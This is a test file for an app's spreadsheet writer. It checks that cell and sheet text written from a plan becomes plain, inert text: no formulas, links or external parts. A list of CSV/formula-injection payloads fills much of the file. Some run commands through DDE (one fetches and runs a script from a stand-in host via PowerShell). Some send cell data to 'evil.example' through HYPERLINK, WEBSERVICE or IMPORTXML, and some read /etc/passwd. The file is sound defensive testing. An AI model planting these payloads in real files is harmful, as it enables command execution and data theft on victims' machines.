import { expect, test } from 'vitest';
import { cellText } from '../../electron/jobs/cellText.ts';
import { readWorkbook } from '../../electron/jobs/readWorkbook.ts';
import type { SheetPlan } from '../../electron/jobs/workbookPlan.ts';
import { writeWorkbook } from '../../electron/jobs/writeWorkbook.ts';
import { convert, libreOfficeMissing, parseCsv } from '../fixtures/workbooks/libreOffice.ts';
import { unzipWorkbook } from '../fixtures/workbooks/unzipWorkbook.ts';

/** What begins a formula, starts a program or leaves the file in some spreadsheet program (OWASP, CSV injection). */
const payloads = [
  '=1+1',
  '==1+1',
  '=A1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget evil.example/x)'!A1",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=DDE("cmd";"/C calc";"x")',
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '=HYPERLINK("file:///c:/windows/system32/calc.exe")',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=IMAGE("http://evil.example/a.png")',
  "='file:///etc/passwd'#$passwd.A1",
  "='\\\\evil.example\\share\\[a.xlsx]Sheet1'!A1",
  '=INDIRECT("A1")',
  '=EXEC("calc")',
  '=CALL("Kernel32","WinExec","JCJ","calc",0)',
  '=REGISTER.ID("kernel32","WinExec")',
  '{=1+1}',
  '+1+1',
  "+cmd|' /C calc'!A0",
  '+8613800000000',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  '-',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  '"=1+1',
  ';=1+1',
  ',=1+1',
  '_x003D_1+1',
  '&#61;1+1',
  '</t></is></c><c r="B1"><f>1+1</f></c>',
  '<f>1+1</f>',
  ']]><f>1+1</f>',
  '%0A=1+1',
] as const;

/** Every text that a plan can hold carries a payload. */
const plan: SheetPlan = {
  name: '=1+1',
  above: payloads,
  columns: payloads.map((heading) => ({ heading, width: 10 })),
  rows: payloads.map((text) => [text, { text, tone: 'error', reason: text }]),
  landscape: false,
};
const workbook = writeWorkbook({ sheets: [plan, ...payloads.map((name) => ({ ...plan, name, above: [], rows: [] }))] });
const expectedRows: readonly (readonly string[])[] = [
  ...payloads.map((line) => [cellText(line)]),
  payloads.map(cellText),
  ...payloads.map((text) => [cellText(text), cellText(text)]),
];

test('c30: no part of a written workbook holds a formula, a link or a foreign name', () => {
  expect(payloads.length).toBeGreaterThanOrEqual(40);
  const parts = unzipWorkbook(workbook);
  const worksheets = [...parts].filter(([name]) => name.startsWith('xl/worksheets/sheet'));
  expect(worksheets).toHaveLength(payloads.length + 1);
  for (const [name, content] of worksheets) {
    expect(content, name).not.toMatch(/<f[ >/]|<hyperlink|<dataValidation|<conditionalFormatting/u);
    // Filled cells point to a shared text, empty ones hold nothing.
    for (const [cell, type] of content.matchAll(/<c r="[A-Z]+\d+" s="\d+"( t="s")?(?:\/>|><v>\d+<\/v><\/c>)/gu)) {
      expect(type === undefined, cell).toBe(cell.endsWith('/>'));
    }
    expect(content.replaceAll(/<c r="[A-Z]+\d+" s="\d+"( t="s")?(?:\/>|><v>\d+<\/v><\/c>)/gu, '')).not.toContain('<c ');
  }
  const names = [...(parts.get('xl/workbook.xml') ?? '').matchAll(/<definedName name="([^"]*)"/gu)];
  expect(new Set(names.map(([, name]) => name))).toEqual(new Set(['_xlnm._FilterDatabase', '_xlnm.Print_Titles']));
  expect([...parts.keys()].filter((name) => /external|vba|embed|activex|connections|calcChain/iu.test(name))).toEqual(
    [],
  );
  expect([...parts].filter(([name, content]) => name.endsWith('.rels') && content.includes('TargetMode'))).toEqual([]);
});

test('c30: every payload comes back as the text it was, in every place', async () => {
  const { sheets } = await readWorkbook(workbook);
  const [sheet] = sheets;
  expect(new Set(sheets.map(({ name }) => name)).size).toBe(payloads.length + 1);
  expect(sheet?.rows.map(({ cells }) => cells.map((cell) => cell?.text))).toEqual(expectedRows);
  expect(new Set(sheet?.rows.flatMap(({ cells }) => cells.map((cell) => cell?.kind)))).toEqual(new Set(['text']));
});

test('c30: LibreOffice finds no formula and the same texts', (context) => {
  if (libreOfficeMissing) context.skip(libreOfficeMissing);
  const document = convert(workbook, 'fods');
  expect(document).toContain('office:value-type="string"');
  expect(document).not.toContain('table:formula');
  expect(new Set(document.match(/office:value-type="\w+"/gu))).toEqual(new Set(['office:value-type="string"']));
  const rows = parseCsv(convert(workbook, 'csv'));
  for (const [index, cells] of expectedRows.entries()) expect(rows[index]?.slice(0, cells.length)).toEqual(cells);
}, 120_000);
